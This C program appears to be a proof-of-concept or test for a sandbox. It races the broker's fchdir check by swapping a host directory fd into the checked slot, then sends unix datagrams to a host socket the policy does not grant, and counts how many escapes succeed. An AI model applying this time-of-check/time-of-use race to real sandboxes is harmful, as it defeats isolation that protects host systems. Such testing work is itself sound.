/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* fchdir to a directory of the sandbox's own root is let through to the
 * kernel (under unix rules, fchdir to a host directory is refused, since
 * the kernel resolves a unix datagram's relative address from there). A
 * second thread puts a host directory fd the broker handed over at that
 * fd number between the broker's look and the kernel's fchdir; each time
 * the working directory is then on the host, a datagram to the relative
 * address "hostsock" reaches a host socket the policy does not grant.
 *
 *   cwdswap HOSTDIR SECONDS
 *
 * Prints how many fchdirs succeeded and how many datagrams went out. */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "fdflip.h"

#define SLOT FDFLIP_SLOT

static int host_dir, own_dir;

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: cwdswap HOSTDIR SECONDS\n");
		return 2;
	}
	/* A directory of the sandbox's own root ("/", which the policy does
	 * not grant), and a host directory the policy grants for reading. */
	own_dir = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	host_dir = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (own_dir < 0 || host_dir < 0 || s < 0) {
		printf("setup: %s\n", strerror(errno));
		return 1;
	}
	int home = fchdir(own_dir);
	printf("# fchdir to the root: %s\n", home == 0 ? "done" : strerror(errno));
	int direct = fchdir(host_dir);
	printf("# fchdir to the host directory itself: %s\n", direct == 0 ? "done" : strerror(errno));
	pthread_t t;
	struct fdflip flip = {.a = own_dir, .b = host_dir};
	if (pthread_create(&t, NULL, fdflip_run, &flip) != 0)
		return 1;
	long tries = 0, moved = 0, sent = 0;
	struct sockaddr_un a = {.sun_family = AF_UNIX, .sun_path = "hostsock"};
	double end = fdflip_now() + atof(argv[2]);
	while (fdflip_now() < end) {
		tries++;
		if (fchdir(SLOT) < 0)
			continue;
		moved++;
		if (sendto(s, "escaped", 7, 0, (struct sockaddr *)&a, sizeof(a)) == 7)
			sent++;
		if (fchdir(own_dir) < 0)
			continue; /* where fchdir is refused */
	}
	atomic_store(&flip.stop, true);
	pthread_join(t, NULL);
	printf("cwdswap: %ld of %ld fchdirs went through, %ld datagrams reached the host socket\n", moved,
	       tries, sent);
	return 0;
}
